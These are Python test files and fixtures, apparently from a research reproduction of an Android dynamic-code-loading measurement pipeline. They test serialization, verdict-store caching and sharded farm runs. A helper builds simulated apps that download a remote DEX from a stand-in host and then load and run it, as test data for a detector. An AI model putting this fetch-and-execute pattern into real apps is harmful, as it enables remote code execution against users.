    return DyDroid(config).measure(corpus)


class TestAppAnalysisRoundTrip:
    def test_dict_round_trip_is_stable(self, measured):
        for app in measured.apps:
            restored = AppAnalysis.from_dict(app.to_dict())
            assert restored.to_dict() == app.to_dict()

    def test_json_compatible(self, measured):
        for app in measured.apps:
            parsed = json.loads(json.dumps(app.to_dict()))
            assert AppAnalysis.from_dict(parsed).to_dict() == app.to_dict()

    def test_corpus_index_preserved(self, measured):
        indices = [app.corpus_index for app in measured.apps]
        assert indices == sorted(indices)
        assert all(index >= 0 for index in indices)

    def test_payload_verdicts_survive(self, measured):
        payloads = [p for app in measured.apps for p in app.payloads]
        assert payloads  # the corpus plants interceptable apps
        malicious = [p for p in payloads if p.is_malicious]
        leaky = [p for p in payloads if p.leaks]
        assert malicious and leaky
        for payload in malicious + leaky:
            restored = PayloadVerdict.from_dict(payload.to_dict())
            assert restored.is_malicious == payload.is_malicious
            assert restored.detection == payload.detection
            assert restored.leaks == payload.leaks
            assert restored.kind is payload.kind
            assert restored.entity is payload.entity

    def test_digest_preserves_table2_facts(self, measured):
        for app in measured.apps:
            if app.dynamic is None:
                continue
            restored = AppAnalysis.from_dict(app.to_dict())
            assert isinstance(restored.dynamic, DynamicDigest)
            assert restored.outcome is app.outcome
            assert restored.exercised == app.exercised
            assert restored.dex_intercepted == app.dex_intercepted
            assert restored.native_intercepted == app.native_intercepted

    def test_replay_sets_survive(self, measured):
        replayed = [app for app in measured.apps if app.replay_loaded]
        assert replayed  # replays ran for malware-flagged apps
        for app in replayed:
            restored = AppAnalysis.from_dict(app.to_dict())
            assert restored.replay_loaded == app.replay_loaded


class TestReportRoundTrip:
    def test_render_all_identical_after_round_trip(self, measured):
        restored = MeasurementReport.from_json(measured.to_json(include_apps=True))
        assert restored.render_all() == measured.render_all()
        assert restored.to_dict() == measured.to_dict()

    def test_tables_only_document_rejected(self, measured):
        with pytest.raises(ValueError):
            MeasurementReport.from_dict(measured.to_dict())

    def test_unknown_version_rejected(self, measured):
        data = measured.to_dict(include_apps=True)
        data["serialization_version"] = SERIALIZATION_VERSION + 1
        with pytest.raises(ValueError):
            MeasurementReport.from_dict(data)

    def test_merge_reorders_by_corpus_index(self, measured):
        reversed_report = MeasurementReport(apps=list(reversed(measured.apps)))
        merged = MeasurementReport.merge([reversed_report])
        assert merged.render_all() == measured.render_all()

    def test_merge_of_split_halves(self, measured):
        odd = MeasurementReport(apps=measured.apps[1::2])
        even = MeasurementReport(apps=measured.apps[0::2])
        merged = MeasurementReport.merge([odd, even])
        assert merged.render_all() == measured.render_all()


class TestDigestRoundTrip:
    def test_digest_dict_round_trip(self):
        digest = DynamicDigest(
            outcome=DynamicOutcome.EXERCISED,
            environment="baseline",
            events_run=7,
            dex_loaded=True,
        )
        assert DynamicDigest.from_dict(digest.to_dict()) == digest

    def test_from_report_is_idempotent(self):
        digest = DynamicDigest(outcome=DynamicOutcome.CRASH, crash_reason="boom")
        assert DynamicDigest.from_report(digest) is digest


class TestCliJson:
    def test_measure_json_carries_apps(self, capsys):
        assert main([
            "measure", "--apps", "30", "--seed", "15", "--train", "2",
            "--no-replays", "--json",
        ]) == 0
        parsed = json.loads(capsys.readouterr().out)
        assert parsed["n_total"] == 30
        assert len(parsed["apps"]) == 30
        restored = MeasurementReport.from_dict(parsed)
        assert restored.n_total == 30
