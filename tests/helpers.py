"""Shared test fixtures: small hand-built apps exercising the runtime."""

from __future__ import annotations

from typing import Dict, Iterable, List, Optional, Tuple

from repro.android import bytecode as bc
from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder, empty_method
from repro.android.dex import DexClass, DexFile
from repro.android.manifest import (
    INTERNET,
    WRITE_EXTERNAL_STORAGE,
    AndroidManifest,
    Component,
    ComponentKind,
)


def simple_payload_dex(
    class_name: str = "com.sdk.payload.Entry", log_tag: str = "payload"
) -> DexFile:
    """A loadable DEX whose Entry.run(ctx) writes one logcat line."""
    cls = class_builder(class_name)
    init = MethodBuilder("<init>", class_name, arity=1)
    init.ret_void()
    cls.add_method(init.build())
    run = MethodBuilder("run", class_name, arity=1)
    run.call_void(
        "android.util.Log", "d", run.new_string(log_tag), run.new_string("loaded-code-ran")
    )
    run.ret_void()
    cls.add_method(run.build())
    return DexFile(classes=[cls], source_name="payload.jar")


def build_manifest(
    package: str = "com.example.demo",
    activities: Iterable[str] = ("MainActivity",),
    permissions: Optional[set] = None,
    min_sdk: int = 14,
    application_name: Optional[str] = None,
) -> AndroidManifest:
    components = [
        Component(ComponentKind.ACTIVITY, "{}.{}".format(package, name), i == 0)
        for i, name in enumerate(activities)
    ]
    return AndroidManifest(
        package=package,
        min_sdk=min_sdk,
        permissions=permissions if permissions is not None else {INTERNET, WRITE_EXTERNAL_STORAGE},
        components=components,
        application_name=application_name,
    )


def emit_download_and_load(
    builder: MethodBuilder,
    url: str,
    dest_path: str,
    odex_dir: str,
    entry_class: Optional[str] = None,
    delete_after: bool = False,
) -> None:
    """Emit the canonical download -> write -> DexClassLoader -> run idiom."""
    url_obj = builder.new_instance_of("java.net.URL", builder.new_string(url))
    conn = builder.call_virtual("java.net.URL", "openConnection", url_obj)
    stream = builder.call_virtual("java.net.URLConnection", "getInputStream", conn)
    size = builder.new_int(1 << 20)
    buf = builder.reg()
    builder.emit(bc.Instruction(bc.Op.NEW_ARRAY, (buf, size)))
    builder.call_virtual("java.io.InputStream", "read", stream, buf)
    dest = builder.new_string(dest_path)
    out = builder.new_instance_of("java.io.FileOutputStream", dest)
    builder.call_void("java.io.OutputStream", "write", out, buf)
    builder.call_void("java.io.OutputStream", "close", out)
    emit_load_dex(builder, dest_path, odex_dir, entry_class)
    if delete_after:
        file_obj = builder.new_instance_of("java.io.File", dest)
        builder.call_virtual("java.io.File", "delete", file_obj)


def emit_load_dex(
    builder: MethodBuilder,
    dex_path: str,
    odex_dir: str,
    entry_class: Optional[str] = None,
    loader_kind: str = "dalvik.system.DexClassLoader",
) -> None:
    """Emit loader construction (and optional payload entry invocation)."""
    path_reg = builder.new_string(dex_path)
    null = builder.new_null()
    if loader_kind.endswith("DexClassLoader"):
        loader = builder.new_instance_of(
            loader_kind, path_reg, builder.new_string(odex_dir), null, null
        )
    else:
        loader = builder.new_instance_of(loader_kind, path_reg, null)
    if entry_class is not None:
        cls = builder.call_virtual(
            "java.lang.ClassLoader", "loadClass", loader, builder.new_string(entry_class)
        )
        instance = builder.call_virtual("java.lang.Class", "newInstance", cls)
        builder.call_void(entry_class, "run", instance, builder.arg(0))


def downloads_and_loads_app(
    package: str = "com.example.demo",
    url: str = "http://cdn.sdk-demo.com/payload.jar",
    delete_after: bool = False,
    entry_class: str = "com.sdk.payload.Entry",
) -> Apk:
    """An app whose MainActivity.onCreate downloads + loads a remote DEX."""
    activity_name = "{}.MainActivity".format(package)
    builder = MethodBuilder("onCreate", activity_name, arity=1)
    emit_download_and_load(
        builder,
        url=url,
        dest_path="/data/data/{}/cache/payload.jar".format(package),
        odex_dir="/data/data/{}/cache/odex".format(package),
        entry_class=entry_class,
        delete_after=delete_after,
    )
    builder.ret_void()
    activity = class_builder(activity_name, superclass="android.app.Activity")
    activity.add_method(builder.build())
    dex = DexFile(classes=[activity])
    return Apk.build(build_manifest(package), dex_files=[dex])


def local_loader_app(
    package: str = "com.example.localload",
    asset_name: str = "plugin.jar",
    entry_class: str = "com.plugin.Main",
) -> Tuple[Apk, DexFile]:
    """An app that copies a packaged asset to cache and loads it locally."""
    payload = simple_payload_dex(entry_class)
    activity_name = "{}.MainActivity".format(package)
    dest = "/data/data/{}/cache/{}".format(package, asset_name)
    builder = MethodBuilder("onCreate", activity_name, arity=1)
    assets = builder.call_virtual("android.content.Context", "getAssets", builder.arg(0))
    stream = builder.call_virtual(
        "android.content.res.AssetManager", "open", assets, builder.new_string(asset_name)
    )
    size = builder.new_int(1 << 20)
    buf = builder.reg()
    builder.emit(bc.Instruction(bc.Op.NEW_ARRAY, (buf, size)))
    builder.call_virtual("java.io.InputStream", "read", stream, buf)
    out = builder.new_instance_of("java.io.FileOutputStream", builder.new_string(dest))
    builder.call_void("java.io.OutputStream", "write", out, buf)
    emit_load_dex(builder, dest, "/data/data/{}/cache/odex".format(package), entry_class)
    builder.ret_void()
    activity = class_builder(activity_name, superclass="android.app.Activity")
    activity.add_method(builder.build())
    apk = Apk.build(
        build_manifest(package),
        dex_files=[DexFile(classes=[activity])],
        assets={"assets/{}".format(asset_name): payload.to_bytes()},
    )
    return apk, payload
