"""The cross-process verdict store: tiers, fingerprints, fleet-wide dedup."""

import json

import pytest

from repro.cli import main
from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.corpus.generator import generate_corpus
from repro.farm import FarmConfig, run_farm
from repro.observe import MetricsRegistry
from repro.static_analysis.malware.droidnative import Detection
from repro.static_analysis.privacy.flowdroid import PrivacyLeak
from repro.store import (
    StoreError,
    VerdictStore,
    compact_store,
    index_path,
    sqlite_available,
    verdict_fingerprint,
)

N_APPS = 24
SEED = 19


def pipeline_config(**overrides):
    defaults = dict(train_samples_per_family=2, run_replays=False)
    defaults.update(overrides)
    return DyDroidConfig(**defaults)


def farm_config(**kwargs):
    defaults = dict(
        n_apps=N_APPS,
        corpus_seed=SEED,
        workers=1,
        pipeline=pipeline_config(),
        backoff_s=0.0,
    )
    defaults.update(kwargs)
    return FarmConfig(**defaults)


@pytest.fixture(scope="module")
def corpus():
    return generate_corpus(N_APPS, seed=SEED)


@pytest.fixture(scope="module")
def serial_report(corpus):
    return DyDroid(pipeline_config()).measure(corpus)


DETECTION = Detection(
    family="DroidKungFu",
    score=0.97,
    matched_sample_id="DroidKungFu-003",
    matched_functions=9,
    total_functions=10,
)
LEAK = PrivacyLeak(
    data_type="imei",
    category="device_id",
    sink_class="java.net.URL",
    sink_method="openConnection",
    channel="network",
    in_method="com.ads.Tracker.report",
)


# -- unit: fingerprint ------------------------------------------------------------


class TestVerdictFingerprint:
    def test_stable_for_equal_configs(self):
        assert verdict_fingerprint(pipeline_config()) == verdict_fingerprint(
            pipeline_config()
        )

    def test_ignores_non_verdict_knobs(self):
        # Monkey/replay settings affect which payloads are *intercepted*,
        # never what the verdict on given payload bytes is -- they must
        # not invalidate a warm store.
        base = verdict_fingerprint(pipeline_config())
        assert verdict_fingerprint(pipeline_config(monkey_seed=99)) == base
        assert verdict_fingerprint(pipeline_config(monkey_budget=1)) == base
        assert verdict_fingerprint(pipeline_config(run_replays=True)) == base
        assert verdict_fingerprint(pipeline_config(verdict_cache_capacity=1)) == base

    def test_tracks_analyzer_knobs(self):
        base = verdict_fingerprint(pipeline_config())
        assert verdict_fingerprint(pipeline_config(droidnative_threshold=0.5)) != base
        assert verdict_fingerprint(pipeline_config(train_samples_per_family=9)) != base
        assert verdict_fingerprint(pipeline_config(training_seed=1)) != base
        assert verdict_fingerprint(pipeline_config(run_privacy=False)) != base
        assert verdict_fingerprint(pipeline_config(run_malware=False)) != base


# -- unit: the store file ---------------------------------------------------------


class TestVerdictStore:
    def test_detection_roundtrip_including_benign(self, tmp_path):
        with VerdictStore(tmp_path / "s.jsonl", pipeline_config()) as store:
            assert store.get_detection("d1") == (False, None)
            store.put_detection("d1", DETECTION)
            store.put_detection("d2", None)  # computed-benign, not absent
            assert store.get_detection("d1") == (True, DETECTION)
            assert store.get_detection("d2") == (True, None)
            assert store.get_detection("d3") == (False, None)

    def test_privacy_roundtrip(self, tmp_path):
        with VerdictStore(tmp_path / "s.jsonl", pipeline_config()) as store:
            assert store.get_privacy("d1") == (False, ())
            store.put_privacy("d1", (LEAK,))
            store.put_privacy("d2", ())
            assert store.get_privacy("d1") == (True, (LEAK,))
            assert store.get_privacy("d2") == (True, ())

    def test_verdicts_visible_across_instances(self, tmp_path):
        """A sibling's published verdict is seen without reopening."""
        path = tmp_path / "s.jsonl"
        with VerdictStore(path, pipeline_config()) as writer, VerdictStore(
            path, pipeline_config()
        ) as reader:
            assert reader.get_detection("d1") == (False, None)
            writer.put_detection("d1", DETECTION)
            # the reader's next miss re-scans the tail and finds it
            assert reader.get_detection("d1") == (True, DETECTION)

    def test_survives_reopen(self, tmp_path):
        path = tmp_path / "s.jsonl"
        with VerdictStore(path, pipeline_config()) as store:
            store.put_detection("d1", DETECTION)
            store.put_privacy("d1", (LEAK,))
        with VerdictStore(path, pipeline_config()) as store:
            assert store.get_detection("d1") == (True, DETECTION)
            assert store.get_privacy("d1") == (True, (LEAK,))
            assert store.counts() == {"detection": 1, "privacy": 1}

    def test_refuses_other_configuration(self, tmp_path):
        path = tmp_path / "s.jsonl"
        VerdictStore(path, pipeline_config()).close()
        with pytest.raises(StoreError):
            VerdictStore(path, pipeline_config(droidnative_threshold=0.5))

    def test_torn_tail_and_corrupt_interior_are_skipped(self, tmp_path):
        path = tmp_path / "s.jsonl"
        with VerdictStore(path, pipeline_config()) as store:
            store.put_detection("d1", None)
        with path.open("a") as handle:
            handle.write("not json at all\n")
            handle.write('{"kind": "detection", "digest": "d2"')  # torn, no \n
        with VerdictStore(path, pipeline_config()) as store:
            assert store.get_detection("d1") == (True, None)
            assert store.get_detection("d2") == (False, None)
            # the junk line plus the torn tail, which open() seals with a
            # newline so later appends cannot concatenate onto it
            assert store.corrupt_lines == 2
            # the cache heals itself: recomputing d2 appends a fresh line
            store.put_detection("d2", DETECTION)
        with VerdictStore(path, pipeline_config()) as store:
            assert store.get_detection("d2") == (True, DETECTION)

    def test_publish_seals_siblings_torn_tail(self, tmp_path):
        """Regression: ``_publish`` must seal a crash-torn tail before
        appending, or its line concatenates onto the debris and *both*
        records become one corrupt line."""
        path = tmp_path / "s.jsonl"
        with VerdictStore(path, pipeline_config()) as survivor:
            # a sibling process died mid-append: torn line, no newline
            with path.open("a") as handle:
                handle.write('{"kind": "detection", "digest": "dX"')
            survivor.put_detection("d1", DETECTION)
        # index=False forces a full scan, so corrupt_lines is observable
        with VerdictStore(path, pipeline_config(), index=False) as store:
            assert store.get_detection("d1") == (True, DETECTION)
            assert store.counts() == {"detection": 1, "privacy": 0}
            assert store.corrupt_lines == 1  # only the sealed debris


# -- unit: the sqlite sidecar index ------------------------------------------------


@pytest.mark.skipif(not sqlite_available(), reason="sqlite3 unavailable")
class TestStoreSidecarIndex:
    def test_warm_open_does_zero_full_scans(self, tmp_path):
        path = tmp_path / "s.jsonl"
        with VerdictStore(path, pipeline_config()) as store:
            assert store.full_scans == 1  # cold: no sidecar yet
            store.put_detection("d1", DETECTION)
            store.put_privacy("d1", (LEAK,))
        with VerdictStore(path, pipeline_config()) as store:
            assert store.full_scans == 0
            assert store.get_detection("d1") == (True, DETECTION)
            assert store.get_privacy("d1") == (True, (LEAK,))
            assert store.counts() == {"detection": 1, "privacy": 1}
            assert store.full_scans == 0
            stats = store.index_stats()
            assert stats["enabled"] and stats["full_scans"] == 0

    def test_point_lookup_hits_index_not_scan(self, tmp_path):
        path = tmp_path / "s.jsonl"
        with VerdictStore(path, pipeline_config()) as store:
            for i in range(50):
                store.put_detection("d{}".format(i), None)
        with VerdictStore(path, pipeline_config()) as store:
            assert store.get_detection("d37") == (True, None)
            assert store.index_hits == 1
            assert store.full_scans == 0

    def test_deleted_sidecar_is_rebuilt(self, tmp_path):
        path = tmp_path / "s.jsonl"
        with VerdictStore(path, pipeline_config()) as store:
            store.put_detection("d1", DETECTION)
        index_path(path).unlink()
        with VerdictStore(path, pipeline_config()) as store:
            assert store.full_scans == 1  # one healing scan...
            assert store.get_detection("d1") == (True, DETECTION)
        with VerdictStore(path, pipeline_config()) as store:
            assert store.full_scans == 0  # ...and the sidecar is back
            assert store.get_detection("d1") == (True, DETECTION)

    def test_stale_watermark_after_external_truncate_resets(self, tmp_path):
        path = tmp_path / "s.jsonl"
        with VerdictStore(path, pipeline_config()) as store:
            store.put_detection("d1", DETECTION)
            store.put_detection("d2", None)
        # an external tool rewrote the store shorter: watermark > size
        lines = path.read_bytes().splitlines(keepends=True)
        path.write_bytes(b"".join(lines[:2]))  # header + d1
        with VerdictStore(path, pipeline_config()) as store:
            assert store.full_scans == 1  # reset, rescan from zero
            assert store.get_detection("d1") == (True, DETECTION)
            assert store.get_detection("d2") == (False, None)

    def test_index_disabled_still_works(self, tmp_path):
        path = tmp_path / "s.jsonl"
        with VerdictStore(path, pipeline_config(), index=False) as store:
            store.put_detection("d1", DETECTION)
            assert not store.index_stats()["enabled"]
        with VerdictStore(path, pipeline_config(), index=False) as store:
            assert store.get_detection("d1") == (True, DETECTION)
            assert store.full_scans == 1
            assert not index_path(path).exists()

    def test_refused_store_grows_no_sidecar(self, tmp_path):
        path = tmp_path / "s.jsonl"
        VerdictStore(path, pipeline_config()).close()
        index_path(path).unlink()
        with pytest.raises(StoreError):
            VerdictStore(path, pipeline_config(droidnative_threshold=0.5))
        assert not index_path(path).exists()


# -- unit: compaction --------------------------------------------------------------


class TestCompactStore:
    def test_drops_duplicates_corrupt_and_torn_tail(self, tmp_path):
        path = tmp_path / "s.jsonl"
        with VerdictStore(path, pipeline_config()) as store:
            store.put_detection("d1", DETECTION)
            store.put_detection("d2", None)
            store.put_privacy("d1", (LEAK,))
        lines = path.read_bytes().splitlines(keepends=True)
        with path.open("ab") as handle:
            handle.write(lines[1])  # byte-identical duplicate publish
            handle.write(b"not json\n")
            handle.write(b'{"kind": "privacy", "digest": "dT"')  # torn
        stats = compact_store(path)
        assert stats["entries"] == 3
        assert stats["dropped_duplicates"] == 1
        assert stats["dropped_corrupt"] == 2
        assert stats["bytes_after"] < stats["bytes_before"]

    def test_lookups_identical_before_and_after(self, tmp_path):
        path = tmp_path / "s.jsonl"
        with VerdictStore(path, pipeline_config()) as store:
            store.put_detection("d1", DETECTION)
            store.put_detection("d2", None)
            store.put_privacy("d1", (LEAK,))
            store.put_privacy("d2", ())
            before = {
                ("detection", d): store.get_detection(d) for d in ("d1", "d2", "d3")
            }
            before.update(
                {("privacy", d): store.get_privacy(d) for d in ("d1", "d2", "d3")}
            )
        lines = path.read_bytes().splitlines(keepends=True)
        with path.open("ab") as handle:
            handle.write(lines[2])  # duplicate
        compact_store(path)
        with VerdictStore(path, pipeline_config()) as store:
            for (kind, digest), expected in before.items():
                actual = (
                    store.get_detection(digest)
                    if kind == "detection"
                    else store.get_privacy(digest)
                )
                assert actual == expected

    def test_idempotent(self, tmp_path):
        path = tmp_path / "s.jsonl"
        with VerdictStore(path, pipeline_config()) as store:
            store.put_detection("d1", DETECTION)
        first = compact_store(path)
        second = compact_store(path)
        assert second["dropped_duplicates"] == 0
        assert second["dropped_corrupt"] == 0
        assert second["bytes_before"] == second["bytes_after"] == first["bytes_after"]

    def test_rejects_non_store_files(self, tmp_path):
        missing = tmp_path / "nope.jsonl"
        with pytest.raises(StoreError):
            compact_store(missing)
        junk = tmp_path / "junk.jsonl"
        junk.write_text("hello\n")
        with pytest.raises(StoreError):
            compact_store(junk)


# -- integration: pipeline tiers --------------------------------------------------


class TestPipelineStoreTiers:
    def test_cold_then_warm_run(self, corpus, serial_report, tmp_path):
        store_path = str(tmp_path / "verdicts.jsonl")

        cold_registry = MetricsRegistry()
        cold = DyDroid(
            pipeline_config(), metrics=cold_registry, verdict_store=store_path
        )
        cold_report = cold.measure(corpus)
        cold.close()
        assert cold_report.render_all() == serial_report.render_all()
        # cold store: every tier-1 miss is also a tier-2 miss, and the
        # fleet-wide miss count equals the distinct digest count.
        assert cold_registry.counter_value("store.detection.hit") == 0
        assert cold_registry.counter_value(
            "store.detection.miss"
        ) == cold_registry.distinct_count("cache.detection.digests")
        assert cold_registry.counter_value(
            "store.privacy.miss"
        ) == cold_registry.distinct_count("cache.privacy.digests")
        assert cold_registry.histogram("stage.store").count > 0

        warm_registry = MetricsRegistry()
        warm = DyDroid(
            pipeline_config(), metrics=warm_registry, verdict_store=store_path
        )
        warm_report = warm.measure(corpus)
        warm.close()
        assert warm_report.render_all() == serial_report.render_all()
        assert warm_registry.counter_value("store.detection.miss") == 0
        assert warm_registry.counter_value("store.privacy.miss") == 0
        assert warm_registry.counter_value(
            "store.detection.hit"
        ) == warm_registry.distinct_count("cache.detection.digests")

    def test_warm_run_never_invokes_analyzers(self, corpus, tmp_path, monkeypatch):
        store_path = str(tmp_path / "verdicts.jsonl")
        cold = DyDroid(pipeline_config(), verdict_store=store_path)
        cold_report = cold.measure(corpus)
        cold.close()
        assert any(app.payloads for app in cold_report.apps)

        def no_detect(self, binary, tracer=None):
            raise AssertionError("DroidNative ran against a warm store")

        def no_flow(dex, tracer=None):
            raise AssertionError("FlowDroid ran against a warm store")

        monkeypatch.setattr(
            "repro.static_analysis.malware.droidnative.DroidNative.detect", no_detect
        )
        monkeypatch.setattr("repro.core.pipeline.analyze_dex", no_flow)
        warm = DyDroid(pipeline_config(), verdict_store=store_path)
        warm_report = warm.measure(corpus)
        warm.close()
        assert warm_report.render_all() == cold_report.render_all()

    def test_instance_sharing_does_not_close_borrowed_store(self, tmp_path):
        with VerdictStore(tmp_path / "s.jsonl", pipeline_config()) as shared:
            pipeline = DyDroid(pipeline_config(), verdict_store=shared)
            pipeline.close()  # borrowed, must stay open for other users
            shared.put_detection("d1", None)
            assert shared.get_detection("d1") == (True, None)


# -- integration: farm fleet-wide dedup (the acceptance criterion) ---------------


class TestFarmFleetWideDedup:
    def test_four_shards_analyze_each_digest_exactly_once(
        self, serial_report, tmp_path
    ):
        store_path = str(tmp_path / "verdicts.jsonl")
        cold = run_farm(
            farm_config(n_shards=4, verdict_store=store_path)
        )
        assert cold.report.render_all() == serial_report.render_all()
        store = cold.metrics["verdict_store"]
        cache = cold.metrics["verdict_cache"]
        # store misses == distinct digest count: each distinct payload
        # was computed exactly once across all four shards.
        assert store["detection"]["misses"] == cache["detection"]["misses"]
        assert store["privacy"]["misses"] == cache["privacy"]["misses"]
        assert store["detection"]["misses"] > 0

        warm = run_farm(
            farm_config(n_shards=4, verdict_store=store_path)
        )
        assert warm.report.render_all() == serial_report.render_all()
        warm_store = warm.metrics["verdict_store"]
        assert warm_store["detection"]["misses"] == 0
        assert warm_store["privacy"]["misses"] == 0
        assert warm_store["detection"]["hits"] == cache["detection"]["misses"]

    def test_resharding_with_shared_store_stays_deterministic(
        self, serial_report, tmp_path
    ):
        store_path = str(tmp_path / "verdicts.jsonl")
        for n_shards in (1, 3, 4):
            result = run_farm(
                farm_config(n_shards=n_shards, verdict_store=store_path)
            )
            assert result.report.render_all() == serial_report.render_all()

    def test_store_config_mismatch_fails_the_run(self, tmp_path):
        store_path = str(tmp_path / "verdicts.jsonl")
        VerdictStore(store_path, pipeline_config(droidnative_threshold=0.5)).close()
        # the coordinator validates before launching any shard
        with pytest.raises(StoreError):
            run_farm(farm_config(n_shards=2, verdict_store=store_path))


# -- CLI ------------------------------------------------------------------------


class TestStoreCli:
    def test_measure_warm_store_reports_zero_misses(self, tmp_path, capsys):
        store = tmp_path / "verdicts.jsonl"
        metrics = tmp_path / "metrics.json"
        argv = [
            "measure", "--apps", str(N_APPS), "--seed", str(SEED),
            "--train", "2", "--no-replays", "--table", "2",
            "--verdict-store", str(store), "--metrics-out", str(metrics),
        ]
        assert main(argv) == 0
        cold = json.loads(metrics.read_text())
        assert cold["counters"]["store.detection.miss"] > 0
        capsys.readouterr()

        assert main(argv) == 0
        warm = json.loads(metrics.read_text())
        assert "store.detection.miss" not in warm["counters"]
        assert warm["counters"]["store.detection.hit"] > 0
        capsys.readouterr()

    def test_farm_cli_accepts_verdict_store(self, tmp_path, capsys):
        store = tmp_path / "verdicts.jsonl"
        metrics = tmp_path / "metrics.json"
        argv = [
            "farm", "run", "--apps", "12", "--seed", str(SEED),
            "--workers", "1", "--shards", "3", "--train", "2",
            "--no-replays", "--table", "2",
            "--verdict-store", str(store), "--metrics-out", str(metrics),
        ]
        assert main(argv) == 0
        capsys.readouterr()
        assert main(argv) == 0
        capsys.readouterr()
        summary = json.loads(metrics.read_text())["verdict_store"]
        assert summary["detection"]["misses"] == 0

    def test_store_compact_cli(self, tmp_path, capsys):
        path = tmp_path / "verdicts.jsonl"
        with VerdictStore(path, pipeline_config()) as store:
            store.put_detection("d1", DETECTION)
        duplicate = path.read_bytes().splitlines(keepends=True)[1]
        with path.open("ab") as handle:
            handle.write(duplicate)
        assert main(["store", "compact", str(path), "--json"]) == 0
        stats = json.loads(capsys.readouterr().out)
        assert stats["kind"] == "verdict store"
        assert stats["entries"] == 1
        assert stats["dropped_duplicates"] == 1
        with VerdictStore(path, pipeline_config()) as store:
            assert store.get_detection("d1") == (True, DETECTION)

    def test_store_compact_cli_detects_warehouse(self, tmp_path, capsys):
        from repro.evolution import SnapshotWarehouse

        path = tmp_path / "warehouse.jsonl"
        with SnapshotWarehouse(path) as warehouse:
            warehouse.append(
                {"package": "com.a", "metadata": {"version_code": 1}}
            )
        # appending after a seal leaves a stale interior index line behind
        with SnapshotWarehouse(path) as warehouse:
            warehouse.append(
                {"package": "com.b", "metadata": {"version_code": 1}}
            )
        assert main(["store", "compact", str(path), "--json"]) == 0
        stats = json.loads(capsys.readouterr().out)
        assert stats["kind"] == "warehouse"
        assert stats["snapshots"] == 2
        assert stats["dropped_index_lines"] == 2  # interior + old trailing
        with SnapshotWarehouse(path) as warehouse:
            assert warehouse.get("com.a", 1)["package"] == "com.a"
            assert warehouse.get("com.b", 1)["package"] == "com.b"
