"""The cross-process verdict store: tiers, fingerprints, fleet-wide dedup."""

import json

import pytest

from repro.cli import main
from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.corpus.generator import generate_corpus
from repro.farm import FarmConfig, run_farm
from repro.observe import MetricsRegistry
from repro.static_analysis.malware.droidnative import Detection
from repro.static_analysis.privacy.flowdroid import PrivacyLeak
from repro.store import StoreError, VerdictStore, verdict_fingerprint

N_APPS = 24
SEED = 19


def pipeline_config(**overrides):
    defaults = dict(train_samples_per_family=2, run_replays=False)
    defaults.update(overrides)
    return DyDroidConfig(**defaults)


def farm_config(**kwargs):
    defaults = dict(
        n_apps=N_APPS,
        corpus_seed=SEED,
        workers=1,
        pipeline=pipeline_config(),
        backoff_s=0.0,
    )
    defaults.update(kwargs)
    return FarmConfig(**defaults)


@pytest.fixture(scope="module")
def corpus():
    return generate_corpus(N_APPS, seed=SEED)


@pytest.fixture(scope="module")
def serial_report(corpus):
    return DyDroid(pipeline_config()).measure(corpus)


DETECTION = Detection(
    family="DroidKungFu",
    score=0.97,
    matched_sample_id="DroidKungFu-003",
    matched_functions=9,
    total_functions=10,
)
LEAK = PrivacyLeak(
    data_type="imei",
    category="device_id",
    sink_class="java.net.URL",
    sink_method="openConnection",
    channel="network",
    in_method="com.ads.Tracker.report",
)


# -- unit: fingerprint ------------------------------------------------------------


class TestVerdictFingerprint:
    def test_stable_for_equal_configs(self):
        assert verdict_fingerprint(pipeline_config()) == verdict_fingerprint(
            pipeline_config()
        )

    def test_ignores_non_verdict_knobs(self):
        # Monkey/replay settings affect which payloads are *intercepted*,
        # never what the verdict on given payload bytes is -- they must
        # not invalidate a warm store.
        base = verdict_fingerprint(pipeline_config())
        assert verdict_fingerprint(pipeline_config(monkey_seed=99)) == base
        assert verdict_fingerprint(pipeline_config(monkey_budget=1)) == base
        assert verdict_fingerprint(pipeline_config(run_replays=True)) == base
        assert verdict_fingerprint(pipeline_config(verdict_cache_capacity=1)) == base

    def test_tracks_analyzer_knobs(self):
        base = verdict_fingerprint(pipeline_config())
        assert verdict_fingerprint(pipeline_config(droidnative_threshold=0.5)) != base
        assert verdict_fingerprint(pipeline_config(train_samples_per_family=9)) != base
        assert verdict_fingerprint(pipeline_config(training_seed=1)) != base
        assert verdict_fingerprint(pipeline_config(run_privacy=False)) != base
        assert verdict_fingerprint(pipeline_config(run_malware=False)) != base


# -- unit: the store file ---------------------------------------------------------


class TestVerdictStore:
    def test_detection_roundtrip_including_benign(self, tmp_path):
        with VerdictStore(tmp_path / "s.jsonl", pipeline_config()) as store:
            assert store.get_detection("d1") == (False, None)
            store.put_detection("d1", DETECTION)
            store.put_detection("d2", None)  # computed-benign, not absent
            assert store.get_detection("d1") == (True, DETECTION)
            assert store.get_detection("d2") == (True, None)
            assert store.get_detection("d3") == (False, None)

    def test_privacy_roundtrip(self, tmp_path):
        with VerdictStore(tmp_path / "s.jsonl", pipeline_config()) as store:
            assert store.get_privacy("d1") == (False, ())
            store.put_privacy("d1", (LEAK,))
            store.put_privacy("d2", ())
            assert store.get_privacy("d1") == (True, (LEAK,))
            assert store.get_privacy("d2") == (True, ())

    def test_verdicts_visible_across_instances(self, tmp_path):
        """A sibling's published verdict is seen without reopening."""
        path = tmp_path / "s.jsonl"
        with VerdictStore(path, pipeline_config()) as writer, VerdictStore(
            path, pipeline_config()
        ) as reader:
            assert reader.get_detection("d1") == (False, None)
            writer.put_detection("d1", DETECTION)
            # the reader's next miss re-scans the tail and finds it
            assert reader.get_detection("d1") == (True, DETECTION)

    def test_survives_reopen(self, tmp_path):
        path = tmp_path / "s.jsonl"
        with VerdictStore(path, pipeline_config()) as store:
            store.put_detection("d1", DETECTION)
            store.put_privacy("d1", (LEAK,))
        with VerdictStore(path, pipeline_config()) as store:
            assert store.get_detection("d1") == (True, DETECTION)
            assert store.get_privacy("d1") == (True, (LEAK,))
            assert store.counts() == {"detection": 1, "privacy": 1}

    def test_refuses_other_configuration(self, tmp_path):
        path = tmp_path / "s.jsonl"
        VerdictStore(path, pipeline_config()).close()
        with pytest.raises(StoreError):
            VerdictStore(path, pipeline_config(droidnative_threshold=0.5))

    def test_torn_tail_and_corrupt_interior_are_skipped(self, tmp_path):
        path = tmp_path / "s.jsonl"
        with VerdictStore(path, pipeline_config()) as store:
            store.put_detection("d1", None)
        with path.open("a") as handle:
            handle.write("not json at all\n")
